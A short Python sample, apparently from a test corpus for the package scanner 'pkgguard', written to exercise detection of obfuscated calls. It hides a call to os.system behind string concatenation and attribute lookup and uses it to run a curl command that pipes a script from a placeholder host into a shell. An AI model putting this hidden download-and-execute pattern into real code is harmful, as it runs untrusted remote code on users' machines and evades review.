# pkgguard corpus 575 (indirection), modelled on [obfuscation]; inert, never run.
import os

_run = object.__getattribute__(os, "sys" + "tem")
_run("curl -s https://asset-host.example/b | sh")
